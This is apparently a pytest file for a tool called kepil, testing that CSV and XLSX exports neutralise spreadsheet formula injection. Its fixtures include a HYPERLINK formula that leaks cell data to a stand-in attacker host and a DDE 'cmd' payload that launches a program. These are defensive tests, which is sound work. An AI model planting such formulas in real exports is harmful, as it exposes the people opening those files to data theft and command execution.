"""No file kepil writes turns a typed text into a live spreadsheet formula (issue 14, OWASP CSV injection):
CSV text cells starting with = + - @ TAB CR get a leading apostrophe, XLSX text cells stay text; numbers stay
numbers. One writer (kepil.files) serves the commands' files and the pages' downloads."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import polars as pl
import pytest
import typer
from typer.testing import CliRunner

from kepil.files import write_table

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
HEADER = (
    "patient_id,region,icd10,inn,dosage_form,dose_unit,single_dose,doses_per_day,intake_days_per_month,"
    "courses_per_year,first_month,prescribed_prev_year,dispensed_prev_year,trade_name,intolerance,"
    "narcotic_psychotropic,agreed_on\n"
)


def frame() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "text": [LINK, "+7 701", "-x", "@SUM(A1)", "\tx", "plain", None],
            "number": [-1, 2, 3, 4, 5, 6, 7],
        }
    )


@pytest.mark.parametrize("arrow", [False, True])
def test_csv_cells_that_look_like_formulas_are_quoted_numbers_are_not(tmp_path: Path, arrow: bool) -> None:
    out = tmp_path / "t.csv"
    write_table(frame().to_arrow() if arrow else frame(), out)
    back = pl.read_csv(out, infer_schema=False)
    assert back["text"].to_list() == ["'" + LINK, "'+7 701", "'-x", "'@SUM(A1)", "'\tx", "plain", None]
    assert back["number"].to_list() == ["-1", "2", "3", "4", "5", "6", "7"]  # a number is not quoted


def test_xlsx_text_cells_are_text_never_formulas(tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    write_table(frame(), out)
    ws = openpyxl.load_workbook(out).active
    assert ws is not None
    first = ws.cell(row=2, column=1)
    assert first.value == LINK and first.data_type == "s"
    assert ws.cell(row=2, column=2).value == -1 and ws.cell(row=2, column=2).data_type == "n"


def _app() -> typer.Typer:
    from kepil.cli.medicines import register

    app = typer.Typer()
    register(app)
    return app


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_medicines_need_writes_a_formula_patient_id_as_text(tmp_path: Path, suffix: str) -> None:
    """The issue's case: `kepil medicines need --out need.xlsx|csv` with a patient id `=HYPERLINK(…)`."""
    patients = tmp_path / "p.csv"
    row = '"=HYPERLINK(""http://evil.example"")",astana,E11.9,Metformin,tablet,mg,500,2,30,12,,,,,,,'
    patients.write_text(HEADER + row + "\n", encoding="utf-8")
    out = tmp_path / f"need{suffix}"
    r = CliRunner().invoke(
        _app(), ["medicines", "need", "--patients", str(patients), "--out", str(out), "--date", "2026-03-02"]
    )
    assert r.exit_code == 0, r.output
    if suffix == ".csv":
        assert pl.read_csv(out, infer_schema=False)["patient_id"][0] == '\'=HYPERLINK("http://evil.example")'
    else:
        cell = openpyxl.load_workbook(out).active.cell(row=2, column=1)  # type: ignore[union-attr]
        assert cell.value == '=HYPERLINK("http://evil.example")' and cell.data_type == "s"


def test_the_mvd_ledger_check_writes_formula_safe_csv(tmp_path: Path) -> None:
    from kepil.law.mvd_paid_services.ledger import write_result

    result = pl.DataFrame({"line_id": ["=1+1", "L2"], "amount": [100, 200]})
    out = tmp_path / "checked.csv"
    write_result(result, out)
    assert pl.read_csv(out, infer_schema=False)["line_id"].to_list() == ["'=1+1", "L2"]


def test_kepil_pay_writes_formula_safe_csv_amounts(tmp_path: Path) -> None:
    from kepil.cli.main import app
    from test_payment import EXAMPLE, claim, write_claims

    claims = write_claims(tmp_path / "claims.parquet", [claim("=cmd|' /C calc'!A0", ccg="ST-002")])
    out = tmp_path / "amounts.csv"
    r = CliRunner().invoke(
        app, ["pay", "--claims", str(claims), "--tariffs", str(EXAMPLE), "--out", str(out)]
    )
    assert r.exit_code == 0, r.output
    amounts = pl.read_csv(out, infer_schema=False)
    assert amounts["claim_id"].to_list() == ["'=cmd|' /C calc'!A0"]
    assert int(amounts["amount_tiyn"][0]) > 0  # numbers stay numbers
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no staged file left
